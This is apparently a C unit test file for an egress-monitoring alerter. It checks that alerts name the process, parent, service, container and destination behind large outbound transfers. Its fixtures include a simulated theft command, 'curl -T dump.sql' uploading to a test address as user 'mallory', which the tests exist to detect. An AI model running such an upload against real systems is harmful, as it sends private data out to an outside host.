/* SPDX-License-Identifier: Apache-2.0
 *
 * An alert names the one process and the one peer it is about, whatever else the
 * actor does and whoever else its group of addresses holds.
 */
#include "alert_fixture.h"

#include <errno.h>
#include <stdlib.h>

#include "alert/witness.h"
#include "base/units.h"
#include "model/flowtab.h"

/* What an identity holds when nothing is known. */
#define NOBODY                                                                                     \
	.exe = "", .cmdline = "", .script = "", .user = "", .unit = "", .container_id = "",        \
	.container_name = "", .container_image = "", .container_owner = "", .cgroup_path = "",     \
	.parent_comm = "", .db_session = "", .db_client = "", .db_command = "", .db_system = "",   \
	.db_application = "", .db_query = "", .real_user = "", .login_user = "", .exe_sha256 = "", \
	.cwd = "", .ancestors = "", .feeder = "", .pod = "", .pod_namespace = ""

struct sender {
	struct ident ident;
	struct flow flow;
};

static void sender_make(struct alert_test *t, struct sender *s, uint32_t pid, const char *exe,
			const char *dst)
{
	uint8_t addr[16];

	*s = (struct sender){ .ident = { .tgid = pid, .start_ns = pid * 1000ull, NOBODY } };
	s->ident.exe = exe;
	s->ident.user = "mallory";
	snprintf(s->ident.comm, sizeof(s->ident.comm), "%s", exe);
	assert_int_equal(parse_addr(dst, addr), 0);
	s->flow = (struct flow){
		.key = { .tgid = pid, .start_ns = pid * 1000ull, .port = 443 },
		.start_wall_ns = 1714571000000000000ull + pid,
		.ident = &s->ident,
		.actor = names_actor(t->names, exe, exe, "", "mallory"),
		.dest = names_dest(t->names, dst, EG_SCOPE_UNKNOWN),
		.scope = EG_SCOPE_PUBLIC,
	};
	memcpy(s->flow.key.daddr, addr, sizeof(addr));
	snprintf(s->flow.dst, sizeof(s->flow.dst), "%s", dst);
}

static struct tick_row row_of(struct sender *s, uint64_t bytes)
{
	s->flow.delta.payload_bytes = bytes;
	return (struct tick_row){
		.actor = s->flow.actor,
		.dest = s->flow.dest,
		.largest = &s->flow,
		.tx_bytes = bytes,
		.port = 443,
		.init = EG_INIT_CONNECTED,
	};
}

struct witness_test {
	struct alert_test t;
	struct buf json;
};

static int keep_json(void *ctx, const struct alert_event *event)
{
	struct buf *out = ctx;

	return alert_event_json(event, out);
}

/* One tick of these rows; the events' JSON replaces what was there. */
static void feed(struct witness_test *w, const struct tick_row *rows, size_t count)
{
	struct alert_test *t = &w->t;

	buf_clear(&w->json);
	t->tick.rows = rows;
	t->tick.row_count = count;
	qsort(t->found, t->count, sizeof(t->found[0]), by_series);
	assert_int_equal(
		alerts_feed(t->alerts, NULL, &t->tick, t->found, t->count, keep_json, &w->json), 0);
	t->tick.ts += t->tick.interval_s;
	t->tick.rows = NULL;
	t->tick.row_count = t->count = 0;
}

static void expect_in(const struct witness_test *w, const char *text)
{
	if (!strstr(w->json.len ? w->json.data : "", text))
		fail_msg("no %s in %s", text, w->json.len ? w->json.data : "(nothing)");
}

static void expect_not_in(const struct witness_test *w, const char *text)
{
	if (strstr(w->json.len ? w->json.data : "", text))
		fail_msg("%s in %s", text, w->json.data);
}

static void end(struct witness_test *w)
{
	alert_test_end(&w->t);
	buf_free(&w->json);
}

static void address_is_the_peers_not_its_neighbours(void **state)
{
	struct witness_test w = { 0 };
	struct sender thief, other;
	struct tick_row rows[2];

	(void)state;
	alert_test_start(&w.t, 60);
	sender_make(&w.t, &thief, 4242, "curl", "203.0.113.7");
	sender_make(&w.t, &other, 17, "curl", "203.0.113.200"); /* same /24, seen last */
	thief.ident.cmdline = "curl -T dump.sql https://203.0.113.7/";
	thief.ident.parent_comm = "bash";
	thief.ident.unit = "cron.service";
	assert_ptr_equal(thief.flow.dest, other.flow.dest);
	assert_string_equal(thief.flow.dest->example, "203.0.113.200");
	rows[0] = row_of(&other, 1000);
	rows[1] = row_of(&thief, 100 << 20);
	alert_test_add(&w.t, SERIES_PAIR, "curl", "203.0.113.200", EG_LEVEL_PAGE);
	feed(&w, rows, 2);
	expect_in(&w, "\"destination.ip\":\"203.0.113.7\"");
	expect_in(&w, "\"process.pid\":4242");
	expect_in(&w, "\"process.start\":\"2024-05-01T13:43:20");
	expect_in(&w, "\"process.command_line\":\"curl -T dump.sql");
	expect_in(&w, "\"process.parent.name\":\"bash\"");
	expect_in(&w, "\"service.name\":\"cron.service\"");
	expect_in(&w, "\"subject\":\"curl (mallory) -> 203.0.113.7:443\"");
	expect_in(&w, " Process 4242 (child of bash, cron.service): curl -T dump.sql "
		      "https://203.0.113.7/. ");
	expect_not_in(&w, "203.0.113.200");
	end(&w);
}

static void process_gone_before_the_second_loud_tick_is_named(void **state)
{
	struct witness_test w = { 0 };
	struct sender thief;
	struct tick_row row;

	(void)state;
	alert_test_start(&w.t, 1);
	sender_make(&w.t, &thief, 4242, "curl", "203.0.113.7");
	row = row_of(&thief, 100 << 20);
	alert_test_add(&w.t, SERIES_PAIR, "curl", "203.0.113.7", EG_LEVEL_TICKET);
	feed(&w, &row, 1);
	assert_int_equal(w.json.len, 0);
	alert_test_add(&w.t, SERIES_PAIR, "curl", "203.0.113.7", EG_LEVEL_TICKET);
	feed(&w, NULL, 0);
	expect_in(&w, "\"process.pid\":4242");
	end(&w);
}

static void pending_witness_of_a_quiet_series_is_let_go(void **state)
{
	struct witness_test w = { 0 };
	struct sender thief;
	struct tick_row row;

	(void)state; /* the address sanitizer is the judge */
	alert_test_start(&w.t, 1);
	sender_make(&w.t, &thief, 4242, "curl", "203.0.113.7");
	row = row_of(&thief, 100 << 20);
	alert_test_add(&w.t, SERIES_PAIR, "curl", "203.0.113.7", EG_LEVEL_TICKET);
	feed(&w, &row, 1);
	feed(&w, NULL, 0);
	alert_test_add(&w.t, SERIES_PAIR, "curl", "203.0.113.7", EG_LEVEL_TICKET);
	feed(&w, &row, 1);
	assert_int_equal(w.json.len, 0);
	end(&w);
}

static void who_sent_most_over_the_ticks_leads(void **state)
{
	struct witness_test w = { 0 };
	struct sender small, big;
	struct witness_vote vote = { NULL, 0 };
	struct tick_row row;
	struct finding *f;

	(void)state;
	alert_test_start(&w.t, 1);
	sender_make(&w.t, &small, 1, "curl", "203.0.113.7");
	sender_make(&w.t, &big, 2, "curl", "203.0.113.8");
	f = alert_test_add(&w.t, SERIES_PAIR, "curl", "203.0.113.7", EG_LEVEL_PAGE);
	w.t.tick.rows = &row;
	w.t.tick.row_count = 1;
	row = row_of(&big, 10000);
	witness_vote(&vote, &w.t.tick, f);
	for (int i = 0; i < 9; i++) {
		row = row_of(&small, 1000);
		witness_vote(&vote, &w.t.tick, f);
	}
	assert_int_equal(vote.leader->pid, 2);
	for (int i = 0; i < 2; i++)
		witness_vote(&vote, &w.t.tick, f);
	assert_int_equal(vote.leader->pid, 1);
	witness_vote_clear(&vote);
	end(&w);
}

static void other_destinations_of_the_actor_do_not_testify(void **state)
{
	struct witness_test w = { 0 };
	struct sender usual, thief;
	struct tick_row rows[2];

	(void)state;
	alert_test_start(&w.t, 60);
	sender_make(&w.t, &usual, 10, "postgres", "198.51.100.5");
	sender_make(&w.t, &thief, 11, "postgres", "203.0.113.7");
	rows[0] = row_of(&usual, 900 << 20);
	rows[1] = row_of(&thief, 100 << 20);
	alert_test_add(&w.t, SERIES_NOVEL, "postgres", "203.0.113.7", EG_LEVEL_PAGE)->init =
		EG_INIT_CONNECTED;
	feed(&w, rows, 2);
	expect_in(&w, "\"process.pid\":11");
	expect_in(&w, "\"destination.ip\":\"203.0.113.7\"");
	/* now most of it goes elsewhere: the witness follows the finding */
	rows[1] = row_of(&usual, 900 << 20);
	alert_test_add(&w.t, SERIES_NOVEL, "postgres", "198.51.100.5", EG_LEVEL_PAGE)->init =
		EG_INIT_CONNECTED;
	w.t.tick.ts += 3600;
	feed(&w, rows, 2);
	expect_in(&w, "\"process.pid\":10");
	expect_in(&w, "\"destination.ip\":\"198.51.100.5\"");
	end(&w);
}

static void named_peer_is_told_by_address_and_name(void **state)
{
	struct witness_test w = { 0 };
	struct sender thief;
	struct tick_row row;

	(void)state;
	alert_test_start(&w.t, 60);
	assert_int_equal(names_set_networks(w.t.names, "backup=203.0.113.0/28"), 0);
	sender_make(&w.t, &thief, 4242, "curl", "203.0.113.7");
	row = row_of(&thief, 100 << 20);
	alert_test_add(&w.t, SERIES_PAIR, "curl", "203.0.113.9", EG_LEVEL_PAGE);
	feed(&w, &row, 1);
	expect_in(&w, "\"destination.ip\":\"203.0.113.7\"");
	expect_in(&w, "\"destination.group\":\"backup\"");
	expect_in(&w, "\"subject\":\"curl (mallory) -> 203.0.113.7:443 (backup)\"");
	end(&w);
}

static void host_alert_names_the_largest_sender(void **state)
{
	struct witness_test w = { 0 };
	struct sender a, b;
	struct tick_row rows[2];

	(void)state;
	alert_test_start(&w.t, 60);
	sender_make(&w.t, &a, 10, "curl", "198.51.100.5");
	sender_make(&w.t, &b, 11, "rsync", "203.0.113.7");
	rows[0] = row_of(&a, 10 << 20);
	rows[1] = row_of(&b, 100 << 20);
	alert_test_add(&w.t, SERIES_HOST, NULL, NULL, EG_LEVEL_TICKET);
	feed(&w, rows, 2);
	expect_in(&w, "\"process.name\":\"rsync\"");
	expect_in(&w, "\"process.pid\":11");
	expect_in(&w, "Most of it by process 11 (rsync, user mallory) to 203.0.113.7. ");
	end(&w);
}

static void session_is_told_and_idle_does_not_hide_the_command(void **state)
{
	struct witness_test w = { 0 };
	struct sender backend;
	struct tick_row row;

	(void)state;
	alert_test_start(&w.t, 60);
	sender_make(&w.t, &backend, 4242, "postgres", "203.0.113.7");
	backend.ident.db_session = "app@prod";
	backend.ident.db_client = "203.0.113.7";
	backend.ident.db_command = "COPY";
	row = row_of(&backend, 100 << 20);
	alert_test_add(&w.t, SERIES_PAIR, "postgres", "203.0.113.7", EG_LEVEL_TICKET);
	feed(&w, &row, 1);
	expect_in(&w, "Database session app@prod from 203.0.113.7: COPY. ");
	backend.ident.db_command = "idle";
	alert_test_add(&w.t, SERIES_PAIR, "postgres", "203.0.113.7", EG_LEVEL_PAGE);
	feed(&w, &row, 1);
	expect_in(&w, "\"event\":\"update\"");
	expect_in(&w, "\"database.session\":\"app@prod\"");
	expect_in(&w, "\"database.command\":\"COPY\"");
	end(&w);
}

/* An incident that goes on after a restart still names who began it. */
static void witness_survives_saving(void **state)
{
	struct buf saved _cleanup_buf_ = BUF_INIT, again _cleanup_buf_ = BUF_INIT;
	struct witness_test w = { 0 };
	struct sender thief;
	struct alerts *fresh;
	struct tick_row row;

	(void)state;
	alert_test_start(&w.t, 60);
	sender_make(&w.t, &thief, 4242, "curl", "203.0.113.7");
	thief.ident.container_name = "web-1";
	row = row_of(&thief, 100 << 20);
	alert_test_add(&w.t, SERIES_PAIR, "curl", "203.0.113.7", EG_LEVEL_PAGE);
	w.t.refuse = -28; /* the event waits in the outbox */
	w.t.tick.rows = &row;
	w.t.tick.row_count = 1;
	assert_int_equal(alert_test_tick(&w.t), -28);
	assert_int_equal(alerts_save(w.t.alerts, &saved), 0);
	assert_int_equal(alerts_new(alert_test_params(), "db-07", &fresh), 0);
	assert_int_equal(alerts_load(fresh, saved.data, saved.len, w.t.names), 0);
	assert_int_equal(alerts_save(fresh, &again), 0);
	assert_int_equal(saved.len, again.len);
	assert_memory_equal(saved.data, again.data, saved.len);
	alerts_free(w.t.alerts);
	w.t.alerts = fresh;
	feed(&w, NULL, 0);
	expect_in(&w, "\"process.pid\":4242");
	expect_in(&w, "\"container.name\":\"web-1\"");
	buf_clear(&w.json);
	assert_int_equal(alerts_each(fresh, keep_json, &w.json), 0);
	expect_in(&w, "\"destination.ip\":\"203.0.113.7\"");
	end(&w);
}

/* Every prefix of a state is refused, and nothing of it stays. */
static void cut_state_is_refused(void **state)
{
	struct buf saved _cleanup_buf_ = BUF_INIT;
	struct witness_test w = { 0 };
	struct sender thief;
	struct tick_row row;

	(void)state;
	alert_test_start(&w.t, 60);
	sender_make(&w.t, &thief, 4242, "curl", "203.0.113.7");
	row = row_of(&thief, 100 << 20);
	alert_test_add(&w.t, SERIES_PAIR, "curl", "203.0.113.7", EG_LEVEL_PAGE);
	feed(&w, &row, 1);
	assert_int_equal(alerts_save(w.t.alerts, &saved), 0);
	for (size_t len = 0; len < saved.len; len++) {
		struct alerts *fresh;

		assert_int_equal(alerts_new(alert_test_params(), "db-07", &fresh), 0);
		assert_int_equal(alerts_load(fresh, saved.data, len, w.t.names), -EBADMSG);
		assert_int_equal(alerts_open_count(fresh, EG_LEVEL_NONE), 0);
		alerts_free(fresh);
	}
	end(&w);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(address_is_the_peers_not_its_neighbours),
		cmocka_unit_test(process_gone_before_the_second_loud_tick_is_named),
		cmocka_unit_test(pending_witness_of_a_quiet_series_is_let_go),
		cmocka_unit_test(who_sent_most_over_the_ticks_leads),
		cmocka_unit_test(other_destinations_of_the_actor_do_not_testify),
		cmocka_unit_test(named_peer_is_told_by_address_and_name),
		cmocka_unit_test(host_alert_names_the_largest_sender),
		cmocka_unit_test(session_is_told_and_idle_does_not_hide_the_command),
		cmocka_unit_test(witness_survives_saving),
		cmocka_unit_test(cut_state_is_refused),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
